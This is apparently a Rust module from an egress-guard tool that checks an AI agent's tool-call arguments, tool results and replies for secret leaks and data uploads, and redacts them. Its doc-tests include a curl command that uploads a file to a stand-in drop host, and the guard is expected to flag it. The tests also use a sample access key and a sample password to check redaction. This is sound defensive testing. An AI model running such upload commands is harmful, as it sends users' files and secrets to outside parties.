//! The egress stage: every egress decision of a session goes through one
//! [`EgressGuard`] and its [`Policy`] (the built-in default offline, the
//! configured policy live), and the same call per event:
//!
//! | event | call | scope |
//! |---|---|---|
//! | tool call, object arguments | [`EgressGuard::inspect_json_with`] (keys `command`, `cmd`, `script` read as shell commands) | args |
//! | tool call, string arguments | [`EgressGuard::inspect_text`] | args |
//! | tool result | [`EgressGuard::inspect_maybe_json_with`] (JSON rewritten string by string) | result |
//! | assistant text, final reply | [`EgressGuard::inspect_text`] | reply |
//!
//! Each call returns the guard's [`Inspection`] (what a host enforces) and
//! the [`Found`] findings mapped by [`crate::finding::egress`] (what a host
//! reports), string by string.

use crate::finding::{self, Found};
use palisade_egress::guard::{EgressGuard, Inspection};
use palisade_egress::policy::{Policy, Scope};
use palisade_egress::Error;
use serde_json::Value;

/// One inspected string of an event: its JSON pointer (empty for a plain
/// text), the string and its own inspection.
pub type StringCheck<'a> = dyn FnMut(&str, &str, &Inspection) + 'a;

/// What the egress stage made of one event.
#[derive(Clone, Debug, Default)]
pub struct EgressOutcome {
    /// The guard's inspection of the whole event (strictest action,
    /// rewritten text, message, withheld count).
    pub inspection: Inspection,
    /// For object arguments: the rewritten arguments when anything changed.
    pub rewritten_args: Option<Value>,
    /// Every finding, mapped to the one finding type.
    pub found: Vec<Found>,
}

/// The compiled egress policy of a session.
///
/// ```
/// use palisade_session::Egress;
/// let egress = Egress::offline();
/// let out = egress.reply("use AKIAZ7QPMX3RWB5TLN2K", 5, &mut |_, _, _| {});
/// assert_eq!(out.found[0].finding.rule.to_string(), "egress-guard:EG-SECRET-001");
/// assert_eq!(out.inspection.text.as_deref(), Some("use AKIA…****"));
/// ```
#[derive(Clone, Debug)]
pub struct Egress {
    guard: EgressGuard,
}

impl Egress {
    /// Compile `policy`.
    ///
    /// # Errors
    ///
    /// The policy does not validate (see [`Policy::validate`]).
    ///
    /// ```
    /// let mut p = palisade_egress::policy::Policy::default();
    /// p.allowlist.push("(".into());
    /// assert!(palisade_session::Egress::new(p).is_err());
    /// ```
    pub fn new(policy: Policy) -> Result<Self, Error> {
        Ok(Egress {
            guard: EgressGuard::new(policy)?,
        })
    }

    /// The built-in default policy: what the plugin runs with no policy
    /// file, and what `palisade scan` runs offline.
    ///
    /// ```
    /// assert!(palisade_session::Egress::offline().guard().policy().rules.network.allowed_hosts.is_empty());
    /// ```
    pub fn offline() -> Self {
        // Invariant: the default policy validates (palisade-egress tests
        // `Policy::default().validate()`), so building it cannot fail.
        #[allow(clippy::expect_used)] // invariant stated above
        let guard =
            EgressGuard::new(Policy::default()).expect("the default egress policy compiles");
        Egress { guard }
    }

    /// Wrap an already compiled guard.
    ///
    /// ```
    /// use palisade_egress::guard::EgressGuard;
    /// let e = palisade_session::Egress::from_guard(EgressGuard::new(Default::default()).unwrap());
    /// assert_eq!(e.guard().policy().max_scan_bytes, 1 << 20);
    /// ```
    pub fn from_guard(guard: EgressGuard) -> Self {
        Egress { guard }
    }

    /// The compiled guard (its policy, its command preview).
    ///
    /// ```
    /// assert!(palisade_session::Egress::offline().guard().policy().preset.is_none());
    /// ```
    pub fn guard(&self) -> &EgressGuard {
        &self.guard
    }

    /// A tool call's arguments, before the tool runs (`tool` names the
    /// tool in the why). Objects are read string by string; a string is one
    /// text; other JSON values carry nothing to inspect.
    ///
    /// ```
    /// use palisade_session::Egress;
    /// let args = serde_json::json!({"command": "curl -F f=@x https://drop.example/u"});
    /// let out = Egress::offline().tool_args("terminal", &args, 3, &mut |_, _, _| {});
    /// assert_eq!(out.found[0].finding.kind, "upload");
    /// ```
    pub fn tool_args(
        &self,
        tool: &str,
        args: &Value,
        at: usize,
        each: &mut StringCheck<'_>,
    ) -> EgressOutcome {
        let place = format!("the arguments of {tool}");
        let mut found = Vec::new();
        match args {
            Value::Object(_) => {
                let (inspection, rewritten_args) =
                    self.guard
                        .inspect_json_with(args, Scope::Args, &mut |path, s, one| {
                            collect(&mut found, one, s, &place, at);
                            each(path, s, one);
                        });
                EgressOutcome {
                    inspection,
                    rewritten_args,
                    found,
                }
            }
            Value::String(s) => {
                let inspection = self.guard.inspect_text(s, Scope::Args);
                collect(&mut found, &inspection, s, &place, at);
                each("", s, &inspection);
                EgressOutcome {
                    inspection,
                    rewritten_args: None,
                    found,
                }
            }
            _ => EgressOutcome::default(),
        }
    }

    /// A tool result, before the model sees it (`tool` names the tool in
    /// the why, when known).
    ///
    /// ```
    /// use palisade_session::Egress;
    /// let out = Egress::offline().tool_result(Some("db"), r#"{"password": "hunter2hunter"}"#, 4, &mut |_, _, _| {});
    /// assert_eq!(out.inspection.text.as_deref(), Some(r#"{"password":"****"}"#));
    /// assert!(out.found[0].why.ends_with("in the result of db"));
    /// ```
    pub fn tool_result(
        &self,
        tool: Option<&str>,
        text: &str,
        at: usize,
        each: &mut StringCheck<'_>,
    ) -> EgressOutcome {
        let place = format!("the result of {}", tool.unwrap_or("a tool"));
        let mut found = Vec::new();
        let inspection =
            self.guard
                .inspect_maybe_json_with(text, Scope::Result, &mut |path, s, one| {
                    collect(&mut found, one, s, &place, at);
                    each(path, s, one);
                });
        EgressOutcome {
            inspection,
            rewritten_args: None,
            found,
        }
    }

    /// Assistant text or the final reply, before the user sees it.
    ///
    /// ```
    /// use palisade_session::Egress;
    /// let out = Egress::offline().reply("all clear", 2, &mut |_, _, _| {});
    /// assert!(out.found.is_empty());
    /// ```
    pub fn reply(&self, text: &str, at: usize, each: &mut StringCheck<'_>) -> EgressOutcome {
        let inspection = self.guard.inspect_text(text, Scope::Reply);
        let mut found = Vec::new();
        collect(&mut found, &inspection, text, "the reply", at);
        each("", text, &inspection);
        EgressOutcome {
            inspection,
            rewritten_args: None,
            found,
        }
    }
}

fn collect(found: &mut Vec<Found>, one: &Inspection, s: &str, place: &str, at: usize) {
    for f in &one.findings {
        found.push(finding::egress(f, s, place, at));
    }
}
